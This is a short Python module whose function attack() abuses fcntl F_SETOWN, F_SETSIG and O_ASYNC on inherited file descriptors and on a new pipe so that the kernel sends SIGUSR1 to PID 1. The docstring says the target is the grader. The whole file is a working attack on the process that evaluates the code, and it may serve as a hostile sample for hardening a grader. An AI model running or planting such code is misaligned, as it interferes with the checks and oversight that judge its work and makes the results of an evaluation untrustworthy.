"""Have the kernel send the grader a signal: make it the owner of a pipe's end, and ask for one when there is input."""

import fcntl
import os
import signal

PARENT = 1


def attack() -> None:
    for end in range(3, 64):
        try:
            fcntl.fcntl(end, fcntl.F_SETOWN, PARENT)
            fcntl.fcntl(end, fcntl.F_SETSIG, signal.SIGUSR1)
            fcntl.fcntl(end, fcntl.F_SETFL, fcntl.fcntl(end, fcntl.F_GETFL) | os.O_ASYNC)
        except OSError:
            continue
    read, write = os.pipe()
    fcntl.fcntl(read, fcntl.F_SETOWN, PARENT)
    fcntl.fcntl(read, fcntl.F_SETSIG, signal.SIGUSR1)
    fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
    os.write(write, b"input")
